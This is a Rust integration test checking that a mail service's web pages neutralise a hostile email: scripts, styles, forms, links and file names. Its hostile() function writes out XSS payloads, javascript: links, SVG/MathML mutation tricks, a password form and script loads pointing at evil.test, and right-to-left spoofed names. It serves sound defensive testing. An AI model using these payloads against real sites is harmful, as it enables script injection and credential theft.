//! Mail from strangers does nothing to the pages that show it: not by scripts, styles, forms, names, links or file names.

use crate::daemon::Daemon;
use crate::rest::Rest;
use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use serde_json::json;
use std::collections::BTreeMap;

/// A browser that is signed in. It follows no redirects.
struct Browser {
    client: reqwest::Client,
    runtime: tokio::runtime::Runtime,
    base: String,
    cookie: String,
}

struct Page {
    status: u16,
    headers: BTreeMap<String, String>,
    text: String,
}

impl Browser {
    fn signed_in(daemon: &Daemon) -> Self {
        // Installs what TLS needs.
        let _ = Rest::new(daemon.ready("http"), "");
        let no_redirects = reqwest::redirect::Policy::none();
        let client = reqwest::Client::builder().redirect(no_redirects).tls_certs_only([]).build().unwrap();
        let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
        let base = daemon.ready("http").trim_end_matches('/').to_owned();
        let mut browser = Self { client, runtime, base, cookie: String::new() };
        let link = daemon.ready("sign_in");
        let signed_in = browser.get(link.strip_prefix(&browser.base).unwrap());
        assert_eq!(signed_in.status, 303);
        browser.cookie = signed_in.headers["set-cookie"].split(';').next().unwrap().to_owned();
        browser
    }

    fn get(&self, path: &str) -> Page {
        self.send(self.client.get(format!("{}{path}", self.base)))
    }

    fn post(&self, path: &str, fields: &[(&str, &str)], site: &str) -> Page {
        let body: String = form_urlencoded::Serializer::new(String::new()).extend_pairs(fields).finish();
        let request = self.client.post(format!("{}{path}", self.base)).body(body);
        let request =
            request.header("content-type", "application/x-www-form-urlencoded").header("sec-fetch-site", site);
        self.send(request)
    }

    fn send(&self, request: reqwest::RequestBuilder) -> Page {
        self.runtime.block_on(async {
            let response = request.header("cookie", &self.cookie).send().await.unwrap();
            let text = |value: &reqwest::header::HeaderValue| String::from_utf8_lossy(value.as_bytes()).into_owned();
            let headers = response.headers().iter().map(|(name, value)| (name.to_string(), text(value))).collect();
            Page { status: response.status().as_u16(), headers, text: response.text().await.unwrap() }
        })
    }
}

const SVG: &str = "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>";
/// What each part of the mail says to show that it was not read as text.
const ATTACK: &str =
    "\"><script>alert(1)</script><img src=x onerror=alert(1)></textarea></title></iframe><base href=//evil.test>";

fn hostile() -> String {
    let html = format!(
        "<html><head><meta http-equiv=refresh content='0;url=https://evil.test'><base href='https://evil.test/'>\
         <link rel=stylesheet href=https://evil.test/a.css><title>{ATTACK}</title>\
         <style>@import 'https://evil.test/b.css'; body{{background:url(https://evil.test/c)}}</style></head>\
         <body onload=alert(1)><script src=https://evil.test/d.js></script>\
         <form action=https://evil.test/e method=post><input name=password><button formaction=javascript:alert(1)>Sign in</button></form>\
         <iframe src=https://evil.test/f></iframe><object data=https://evil.test/g></object><embed src=https://evil.test/h>\
         <svg><script>alert(2)</script><a xlink:href=javascript:alert(3)>x</a></svg><math><mtext></form><form><mglyph><style></math><img src onerror=alert(4)></style>\
         <a href='&#x6a;avascript:alert(5)'>click</a><a href=https://shop.test/ target=_top onclick=alert(6)>shop</a>\
         <img src=cid:pixel><img src='cid:drawing'><img src=cid:none><img src=https://evil.test/i.png><img src=\"data:text/html,<script>1</script>\">\
         <p style='position:fixed;inset:0'>{ATTACK}</p><!--<script>alert(7)</script>--></iframe></body></html>"
    );
    let part = |head: &str, content: &str| {
        let encoded = STANDARD
            .encode(content)
            .as_bytes()
            .chunks(76)
            .map(|line| String::from_utf8_lossy(line) + "\r\n")
            .collect::<String>();
        format!("--b\r\n{head}\r\nContent-Transfer-Encoding: base64\r\n\r\n{encoded}")
    };
    let word = |text: &str| format!("=?utf-8?B?{}?=", STANDARD.encode(text));
    format!(
        "From: {} <mallory@evil.test>\r\nTo: {} <a@b.test>\r\nSubject: {}\r\nX-Attack: {ATTACK}\r\nMIME-Version: 1.0\r\n\
         Content-Type: multipart/related; boundary=b\r\n\r\n{}{}{}{}--b--\r\n",
        word(&format!("\u{202e}{ATTACK}")),
        word(ATTACK),
        word(&format!("\u{202e}Invoice {ATTACK}")),
        part("Content-Type: text/html; charset=utf-8", &html),
        part("Content-Type: image/png\r\nContent-ID: <pixel>", "\u{89}PNG"),
        part("Content-Type: image/svg+xml\r\nContent-ID: <drawing>", SVG),
        part(
            &format!(
                "Content-Type: text/html\r\nContent-Disposition: attachment; filename*=utf-8''%E2%80%AEgpj{}.html",
                "%3Cscript%3Ealert(1)%3C%2Fscript%3E"
            ),
            "<script>alert(8)</script>"
        ),
    )
}

/// Nothing of the mail is an element or an attribute that acts.
#[track_caller]
fn is_harmless(page: &str, what: &str) {
    for tag in tags(&page.to_lowercase()) {
        let name = tag.split([' ', '/']).next().unwrap_or_default();
        // The paper clip of a list.
        let is_own_picture = tag.starts_with("svg class=\"clip\" aria-hidden=\"true\"");
        let acts = ["object", "embed", "svg", "math", "applet", "frame"].contains(&name);
        assert!(!acts || is_own_picture, "{what}: <{tag}>");
        assert!(name != "script" || tag.starts_with("script src=\"/assets/"), "{what}: <{tag}>");
        assert!(name != "base" || tag == "base target=\"_blank\"", "{what}: <{tag}>");
        assert!(name != "meta" || !tag.contains("http-equiv"), "{what}: <{tag}>");
        let names = tag.split('"').step_by(2).collect::<String>();
        assert!(!names.contains(" on") && !names.contains(" srcdoc"), "{what}: <{tag}>");
        assert!(!tag.contains("=\"javascript:"), "{what}: <{tag}>");
    }
}

/// The tags of HTML in which every value is quoted and `<` is escaped in texts.
fn tags(html: &str) -> impl Iterator<Item = &str> {
    html.split('<').skip(1).map(|rest| {
        let mut is_quoted = false;
        let end = rest.find(|c: char| {
            is_quoted ^= c == '"';
            c == '>' && !is_quoted
        });
        &rest[..end.unwrap_or(rest.len())]
    })
}

#[test]
fn mail_of_a_stranger_is_shown_and_does_nothing() {
    let daemon = Daemon::start();
    let api = daemon.api();
    let inbox = api.post("/api/v1/inboxes", json!({"name": "reader"})).expect(201).at("/id").to_owned();
    let put = api.post("/api/v1/emails", json!({"inbox_id": inbox, "raw": hostile()}));
    assert!(put.status < 300, "{}", put.text);
    let id = put.at("/id").to_owned();
    let browser = Browser::signed_in(&daemon);
    let base = format!("/mail/{inbox}");

    for view in ["", "?view=text", "?view=html", "?view=headers", "?view=source"] {
        let page = browser.get(&format!("{base}/{id}{view}"));
        assert_eq!(page.status, 200, "{view}: {}", page.text);
        let policy = &page.headers["content-security-policy"];
        assert!(policy.contains("default-src 'none'") && !policy.contains("unsafe"), "{policy}");
        is_harmless(&page.text, view);
        assert_eq!(
            tags(&page.text).filter(|tag| tag.starts_with("script")).count(),
            3,
            "{view}: the page's own scripts"
        );
        assert_eq!(tags(&page.text).filter(|tag| tag.starts_with("h1")).count(), 1, "{view}");
        assert!(
            page.text.contains("<h1><bdi>\u{202e}Invoice &quot;&gt;&lt;script&gt;"),
            "{view}: the subject is in a direction of its own"
        );
    }
    let html = browser.get(&format!("{base}/{id}?view=html"));
    let frame = tags(&html.text).find(|tag| tag.starts_with("iframe")).unwrap();
    assert!(frame.contains("sandbox=\"allow-popups allow-popups-to-escape-sandbox\""), "{frame}");
    assert!(!frame.contains("allow-scripts") && !frame.contains("allow-same-origin"), "{frame}");
    assert!(html.text.contains("of other servers are not loaded"), "{}", html.text);
    for list in [base.clone(), format!("{base}?q=Invoice"), format!("{base}?q=%22%3E%3Cscript%3E")] {
        let page = browser.get(&list);
        assert_eq!(page.status, 200, "{list}");
        is_harmless(&page.text, &list);
    }

    let framed = browser.get(&format!("{base}/{id}/html"));
    assert_eq!(framed.headers["referrer-policy"], "no-referrer");
    let policy = &framed.headers["content-security-policy"];
    let parts: Vec<&str> = policy.split(';').map(str::trim).collect();
    for wanted in [
        "sandbox allow-popups allow-popups-to-escape-sandbox",
        "default-src 'none'",
        "img-src data: blob:",
        "form-action 'none'",
        "base-uri 'none'",
        "frame-ancestors 'self'",
    ] {
        assert!(parts.contains(&wanted), "{wanted} in {policy}");
    }
    is_harmless(&framed.text, "frame");
    let own: Vec<&str> = tags(&framed.text).filter(|tag| tag.starts_with("meta") || tag.starts_with("base")).collect();
    assert_eq!(own.len(), 4, "only the document's own: {own:?}");
    for gone in ["script", "form", "input", "button", "iframe", "object", "embed", "svg", "math", "link"] {
        let found = tags(&framed.text).find(|tag| tag.split([' ', '/']).next() == Some(gone));
        assert_eq!(found, None, "{}", framed.text);
    }
    let images: Vec<&str> = tags(&framed.text).filter(|tag| tag.starts_with("img")).collect();
    assert_eq!(images.iter().filter(|tag| tag.contains("src=\"data:image/png;base64,")).count(), 1, "{images:?}");
    assert_eq!(images.iter().filter(|tag| tag.contains("src=")).count(), 1, "{images:?}");
    assert!(
        framed
            .text
            .contains("<a href=\"https://shop.test/\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">shop</a>")
    );

    // Images of other hosts come by the button of this session alone.
    let guessed = browser.get(&format!("{base}/{id}/html?images=1"));
    assert!(guessed.headers["content-security-policy"].contains("img-src data: blob:;"));
    let word = html.text.split("name=\"images\" value=\"").nth(1).unwrap().split('"').next().unwrap();
    let with_images = browser.get(&format!("{base}/{id}/html?images={word}"));
    assert!(with_images.headers["content-security-policy"].contains("img-src data: blob: https: http:"));
    assert!(with_images.text.contains("<img src=\"https://evil.test/i.png\">"), "{}", with_images.text);
    is_harmless(&with_images.text, "with images");

    // Attachments are downloads, wherever they are opened.
    let shown = api.get(&format!("/api/v1/emails/{id}")).expect(200);
    for attachment in shown.body["attachments"].as_array().unwrap() {
        let number = attachment["id"].as_str().unwrap();
        let file = browser.get(&format!("{base}/{id}/attachments/{number}"));
        assert!(file.headers["content-disposition"].starts_with("attachment;"), "{:?}", file.headers);
        assert!(file.headers["content-security-policy"].contains("sandbox"), "{:?}", file.headers);
        assert_eq!(file.headers["x-content-type-options"], "nosniff");
    }
    let source = browser.get(&format!("{base}/{id}/message.eml"));
    assert!(source.headers["content-disposition"].starts_with("attachment"), "{:?}", source.headers);

    // A link to a page that is not one of this inbox leads nowhere, and another site's form does nothing.
    let csrf = html.text.split("name=\"csrf\" value=\"").nth(1).unwrap().split('"').next().unwrap();
    let fields = [("csrf", csrf), ("do", "star"), ("email", id.as_str()), ("back", "https://evil.test/")];
    let done = browser.post(&format!("{base}/actions"), &fields, "same-origin");
    assert_eq!((done.status, done.headers["location"].as_str()), (303, base.as_str()));
    for (fields, site) in [(&fields[..], "cross-site"), (&fields[1..], "same-origin")] {
        assert_eq!(browser.post(&format!("{base}/actions"), fields, site).status, 403, "{site}");
    }
}
